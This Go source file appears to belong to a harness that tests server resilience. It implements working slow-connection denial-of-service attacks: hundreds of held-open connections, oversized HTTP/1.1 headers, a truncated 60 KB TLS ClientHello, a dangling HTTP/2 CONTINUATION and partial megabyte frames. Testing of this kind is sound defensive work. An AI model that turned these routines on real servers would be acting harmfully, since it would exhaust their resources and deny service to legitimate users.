package attack

import (
	"context"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

// unfinishedConns is the number of connections with something unfinished.
const unfinishedConns = 880

// keepUnfinished opens connections, lets begin send on each what it does not finish, and keeps
// them open for duration. begin returns an error if the server closes the connection.
func (s *scenario) keepUnfinished(ctx context.Context, addrs int, duration time.Duration, begin func(ctx context.Context, from string) (net.Conn, error)) {
	var sent, refused atomic.Int64
	var conns [unfinishedConns]net.Conn
	parallel(len(conns), 64, func(i int) {
		c, err := begin(ctx, attackerAddr(i%addrs))
		if conns[i] = c; err != nil {
			refused.Add(1)
			return
		}
		sent.Add(1)
	})
	sleep(ctx, duration)
	for _, c := range conns {
		if c != nil {
			c.Close()
		}
	}
	s.addFigure("%d addresses: %d begun, %d refused while sending", addrs, sent.Load(), refused.Load())
}

// unfinished runs an attack from four addresses, and an extended one from forty as well.
func unfinished(extended bool, begin func(*scenario) func(context.Context, string) (net.Conn, error)) func(context.Context, *scenario) {
	return func(ctx context.Context, s *scenario) {
		s.keepUnfinished(ctx, 4, 2*time.Second, begin(s))
		if extended {
			s.keepUnfinished(ctx, 40, 10*time.Second, begin(s))
		}
	}
}

// headerOf sends the beginning of a request with HTTP/1.1.
func headerOf(text string) func(*scenario) func(context.Context, string) (net.Conn, error) {
	return func(s *scenario) func(context.Context, string) (net.Conn, error) {
		return func(ctx context.Context, from string) (net.Conn, error) {
			c, err := s.dial(ctx, from, "http/1.1")
			if err != nil {
				return nil, err
			}
			c.SetDeadline(time.Now().Add(20 * time.Second))
			_, err = io.WriteString(c, text)
			return c, err
		}
	}
}

// fieldsOfFiveBytes is almost as long as a header may be.
var fieldsOfFiveBytes = "GET / HTTP/1.1\nHost: a\n" + strings.Repeat("abc:\n", 4000)

// distinctFields has fields with different names, which cost more memory.
func distinctFields() string {
	var b strings.Builder
	b.WriteString("GET / HTTP/1.1\nHost: a\n")
	const letters = "abcdefghijklmnopqrstuvwxyz"
	for i := 0; b.Len() < 16<<10-5; i++ {
		b.Write([]byte{letters[i/676%26], letters[i/26%26], letters[i%26], ':', '\n'})
	}
	return b.String()
}

// helloWithoutEnd sends a ClientHello of 60 KB without its last byte.
func helloWithoutEnd(s *scenario) func(context.Context, string) (net.Conn, error) {
	const n = 60_000
	message := append([]byte{1, n >> 16, n >> 8 & 0xff, n & 0xff}, make([]byte, n-1)...)
	var records []byte
	for len(message) > 0 {
		k := min(16<<10, len(message))
		records = append(records, 22, 3, 1, byte(k>>8), byte(k))
		records = append(records, message[:k]...)
		message = message[k:]
	}
	return func(ctx context.Context, from string) (net.Conn, error) {
		c, err := s.dialTCP(ctx, from)
		if err != nil {
			return nil, err
		}
		c.SetDeadline(time.Now().Add(20 * time.Second))
		_, err = c.Write(records)
		return c, err
	}
}

// framesWithoutEnd sends an HTTP/2 header that needs a further CONTINUATION.
func framesWithoutEnd(s *scenario) func(context.Context, string) (net.Conn, error) {
	return func(ctx context.Context, from string) (net.Conn, error) {
		f, err := s.dialHTTP2(ctx, from)
		if err != nil {
			return nil, err
		}
		go f.readFrames()
		f.SetDeadline(time.Now().Add(20 * time.Second))
		// One reference to the static table is a byte and a field.
		block := []byte(strings.Repeat("\x90", 350))
		err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block})
		if err == nil {
			err = f.WriteContinuation(1, false, nil)
		}
		return f, err
	}
}

// largeFrames announces HTTP/2 frames of a megabyte and sends a part of them.
func largeFrames(s *scenario) func(context.Context, string) (net.Conn, error) {
	return func(ctx context.Context, from string) (net.Conn, error) {
		f, err := s.dialHTTP2(ctx, from)
		if err != nil {
			return nil, err
		}
		go f.readFrames()
		f.SetDeadline(time.Now().Add(20 * time.Second))
		_, err = f.Conn.Write([]byte{0x0f, 0xff, 0xff, byte(http2.FrameGoAway), 0, 0, 0, 0, 0})
		if err == nil {
			_, err = f.Conn.Write(make([]byte, 64<<10))
		}
		return f, err
	}
}
